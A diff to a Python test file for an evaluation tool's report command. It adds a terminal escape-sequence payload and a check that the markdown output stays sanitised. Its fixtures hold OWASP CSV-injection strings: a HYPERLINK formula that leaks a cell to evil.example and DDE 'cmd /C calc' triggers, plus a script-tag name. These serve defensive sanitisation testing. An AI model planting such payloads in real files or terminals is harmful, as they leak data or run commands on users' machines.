@@ -26,7 +26,8 @@ from trecs_eval.cli import main
 # OWASP's CSV-injection examples and one name per trigger character
 FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+cmd|' /C calc'!A0",
                  "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
-MD_NAMES = ("evil\n\n# Injected heading\n| x | y |", "a|b|c", "<script>alert(1)</script>\r\nrow")
+MD_NAMES = ("evil\n\n# Injected heading\n| x | y |", "a|b|c", "<script>alert(1)</script>\r\nrow",
+            "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07\x1b[2J")  # terminal hyperlink, clear screen
 COMPARE_ARGS = ("--n-resamples", "50", "--metrics", "fid,kid,clip_score")  # IS needs more images
 NEGATIVE_KID = -0.0123  # a number that starts with "-" must stay a number
 
@@ -111,6 +112,7 @@ def test_markdown_report_keeps_one_row_per_system_and_no_raw_html(tmp_path, caps
     assert len({_columns(row) for row in rows}) == 1, rows
     assert not any(line.startswith("#") for line in md.splitlines())
     assert "<script" not in md and "<img" not in md and "&lt;script&gt;" in md
+    assert "\x1b" not in md and "\x07" not in md  # `report` prints the table to a terminal too
 
 
 def _compare_runs(tmp_path: Path, name: str) -> tuple[Path, Path]:
